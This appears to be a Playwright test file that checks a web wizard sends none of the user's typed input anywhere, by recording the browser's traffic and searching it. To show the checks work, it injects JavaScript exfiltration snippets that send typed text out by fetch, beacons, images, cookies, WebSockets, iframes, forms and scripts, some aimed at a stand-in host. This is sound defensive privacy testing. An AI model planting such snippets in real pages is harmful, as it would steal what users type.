"""Nothing that is typed leaves the browser: all of its traffic is recorded and searched."""

from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from time import monotonic

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from tests.browser.applicant import address, field, press_forget, results, total
from tests.browser.conftest import OpenContext
from tests.browser.everything import TYPED, walk
from tests.browser.recorder import Recorder, recording
from tests.browser.secrets_sought import leaks
from tests.browser.waiting import until
from tests.serving import serving

KEPT = """navigator.serviceWorker.ready.then(async ({ active }) => {
  while (active.state !== "activated") await new Promise((done) => setTimeout(done, 20));
})"""


@contextmanager
def recorded(
    site: Path, open_whole_context: OpenContext
) -> Iterator[tuple[str, Recorder, BrowserContext]]:
    """Open a context whose traffic is recorded; the page is kept too, as on a real host."""
    with serving(site) as server:
        url = server.url.replace("127.0.0.1", "site.localhost").rstrip("/")
        with (
            recording(url.removeprefix("http://")) as recorder,
            open_whole_context(url, proxy=recorder.proxy, permissions=[]) as (context, _),
        ):
            yield url, recorder, context


@pytest.mark.parametrize(("language", "other"), [("zh", "en"), ("en", "zh")])
def test_no_byte_of_what_is_typed_is_sent_anywhere(
    site: Path, open_whole_context: OpenContext, language: str, other: str
) -> None:
    with recorded(site, open_whole_context) as (url, recorder, context):
        page = context.new_page()
        page.goto(address(url, language))
        link = walk(page)
        page.reload()
        expect(total(page)).not_to_have_text("—")
        page.evaluate(KEPT)
        fragment = link.partition("#facts=")[2]
        page.locator("a[hreflang]").first.click()  # what is typed goes along, in this browser
        expect(total(page)).not_to_have_text("—")
        page.evaluate(KEPT)
        page.goto("about:blank")
        page.goto(address(url, other) + "#facts=" + fragment)
        expect(field(page, "s1.name")).to_have_value(TYPED["project"])
        expect(results(page)).to_contain_text(TYPED["project"])
        row = page.locator("#wizard-outcome details:has(a[href*='2020-03-16'])").first
        row.locator("summary").first.click()
        row.locator("a[href*='2020-03-16']").first.click()  # with a referrer?
        page.wait_for_load_state()
        page.go_back()
        press_forget(page)
        page.goto(f"{url}/")
        page.close(run_before_unload=True)
        pieces = [fragment[at : at + 12] for at in range(0, len(fragment) - 12, 12)]
        assert any(request.url.endswith("/offline.js") for request in recorder.sent)
        assert any("/engine/worker-" in request.url for request in recorder.sent)
        assert leaks(recorder.sent, [*TYPED.values(), *pieces], site, url) == []


LISTEN = "addEventListener('input', ({ target: { value: text } }) => { WAY }, { once: true });"
WAYS_OUT = {
    "address": "fetch('../?' + encodeURIComponent(text))",
    "path": "fetch('../' + btoa(unescape(encodeURIComponent(text))) + '.html')",
    "header": "fetch('../robots.txt', { headers: { 'x-what': encodeURIComponent(text) } })",
    "language": "fetch('../robots.txt', { headers: { 'accept-language': 'qz-73918264' } })",
    "body": "fetch('../', { method: 'POST', body: text })",
    "beacon": "navigator.sendBeacon('../', text)",
    "cookie": "(document.cookie = 'what=1; path=/', fetch('../robots.txt'))",
    "image": "new Image().src = '../robots.txt#' + (new Image().src = '../a.png?' + text)",
}


PYTHON = "**/engine/worker-*"
"""What starts Python, which no script on the page needs to listen to the fields."""


def typed_with(page: Page, url: str, listener: str) -> None:
    """Open the wizard, have a script listen to what is typed, and type."""
    page.goto(address(url, "zh"), wait_until="domcontentloaded")
    page.evaluate(LISTEN.replace("WAY", listener))
    field(page, "enterprise.name").fill(TYPED["enterprise"])


def test_a_leak_would_be_found(
    site: Path, open_whole_context: OpenContext, subtests: pytest.Subtests
) -> None:
    with recorded(site, open_whole_context) as (url, recorder, context):
        context.route(PYTHON, lambda route: route.abort())
        page = context.new_page()
        for name, way in WAYS_OUT.items():
            with subtests.test(name):
                page.goto("about:blank")  # what the way before still sends is not this one's
                before = len(recorder.sent)
                typed_with(page, url, way)
                end = monotonic() + 30
                while not leaks(recorder.sent[before:], TYPED.values(), site, url):
                    assert monotonic() < end, "nothing was found"
                    page.wait_for_timeout(20)
                page.context.clear_cookies()  # or the next pages would be found by this cookie
        context.unroute(PYTHON)
        page.goto(address(url, "zh"))
        before = len(recorder.sent)
        field(page, "enterprise.name").fill(TYPED["enterprise"])
        page.wait_for_timeout(500)
        assert leaks(recorder.sent[before:], TYPED.values(), site, url) == []


REFUSED = "addEventListener('securitypolicyviolation', (event) => { window.refused = event })"
TO_ANOTHER_HOST = {
    "fetch": "fetch('http://elsewhere.localhost/?' + text)",
    "beacon": "navigator.sendBeacon('http://elsewhere.localhost/', text)",
    "image": "new Image().src = 'http://elsewhere.localhost/?' + text",
    "socket": "new WebSocket('ws://elsewhere.localhost/' + encodeURIComponent(text))",
    "frame": (
        "document.body.insertAdjacentHTML('beforeend',"
        " `<iframe src='http://elsewhere.localhost/?${text}'></iframe>`)"
    ),
    "form": (
        "Object.assign(document.body.appendChild(document.createElement('form')),"
        " { action: 'http://elsewhere.localhost/', method: 'post' }).submit()"
    ),
    "script": (
        "document.body.append(Object.assign(document.createElement('script'),"
        " { src: 'http://elsewhere.localhost/' + text }))"
    ),
    "style": (
        "document.head.append(Object.assign(document.createElement('link'),"
        " { rel: 'stylesheet', href: 'http://elsewhere.localhost/' + text }))"
    ),
}
"""What the content policy of the page must refuse."""


def test_the_policy_of_the_page_lets_nothing_out_to_another_host(
    site: Path, open_whole_context: OpenContext, subtests: pytest.Subtests
) -> None:
    with recorded(site, open_whole_context) as (url, recorder, context):
        context.route(PYTHON, lambda route: route.abort())
        page = context.new_page()
        page.add_init_script(REFUSED)
        for name, way in TO_ANOTHER_HOST.items():
            with subtests.test(name):
                typed_with(page, url, way)
                until(page, "window.refused !== undefined")
        page.wait_for_timeout(500)  # longer than anything takes that is sent all the same
        assert leaks(recorder.sent, TYPED.values(), site, url) == []
